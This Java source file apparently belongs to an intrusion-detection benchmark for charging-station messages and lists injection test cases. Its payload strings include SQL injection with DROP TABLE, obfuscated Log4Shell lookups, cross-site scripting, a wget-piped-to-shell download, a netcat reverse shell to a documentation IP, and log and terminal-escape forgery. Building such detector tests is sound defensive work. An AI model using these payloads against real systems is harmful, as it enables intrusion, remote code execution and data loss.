// SPDX-License-Identifier: Apache-2.0
package io.ferrule.benchmarks.ids.attack;

import io.ferrule.benchmarks.ids.simulation.Json;
import java.util.ArrayList;
import java.util.List;
import java.util.function.Consumer;

/** A22: code in texts for somebody who shows, logs, stores or runs them. */
final class InjectionAttacks {

    private InjectionAttacks() {}

    static List<Attack> all() {
        List<Attack> all = new ArrayList<>();
        Consumer<String[]> add = text -> all.add(MessageAttacks.says(
                "A22",
                text[0],
                text[1],
                text[1].equals("Authorize")
                        ? Json.object("idTag", text[2])
                        : text[1].equals("BootNotification")
                                ? MessageAttacks.boot("chargePointModel", text[2])
                                : Json.object(
                                        "connectorId",
                                        1,
                                        "errorCode",
                                        "OtherError",
                                        "status",
                                        "Faulted",
                                        "info",
                                        text[2])));
        List.of(
                        new String[] {"SQL in a card", "Authorize", "' OR '1'='1"},
                        new String[] {"SQL that drops", "Authorize", "x'; DROP TABLE tx--"},
                        new String[] {"a look-up in a model", "BootNotification", "${jndi:ldap://a/b}"},
                        new String[] {
                            "a hidden look-up", "StatusNotification", "${${lower:j}ndi:${lower:l}dap://203.0.113.66/a}"
                        },
                        new String[] {"a script", "BootNotification", "<script>x()</script>"},
                        new String[] {"a picture that runs", "StatusNotification", "<img src=x onerror=alert(1)>"},
                        new String[] {"a command", "StatusNotification", "x; wget http://203.0.113.66/a -O- | sh"},
                        new String[] {"a command in back-ticks", "StatusNotification", "`reboot`"},
                        new String[] {
                            "a command in brackets", "StatusNotification", "$(nc 203.0.113.66 4444 -e /bin/sh)"
                        },
                        new String[] {
                            "a forged line of a log",
                            "StatusNotification",
                            "ok\r\n2026-01-07 12:00:00 INFO admin logged in"
                        },
                        new String[] {"orders for a terminal", "StatusNotification", "\u001b[2J\u001b[1;31mHACKED"})
                .forEach(add);
        return all;
    }
}
